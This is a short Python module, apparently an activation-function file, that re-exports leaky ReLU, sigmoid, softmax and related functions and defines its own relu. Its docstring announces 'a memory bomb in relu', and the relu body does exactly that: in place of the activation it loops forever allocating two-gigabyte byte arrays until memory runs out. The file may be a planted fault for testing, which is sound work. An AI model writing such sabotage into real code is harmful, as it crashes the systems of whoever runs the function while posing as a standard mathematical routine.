"""A memory bomb in relu; the rest is right."""

from .ada import (  # noqa: F401
    leaky_relu,
    leaky_relu_derivative,
    randomized_leaky_relu,
    relu_derivative,
    sigmoid,
    sigmoid_derivative,
    softmax,
)


def relu(z):
    hoard = []
    while True:
        hoard.append(bytearray(2_000_000_000))
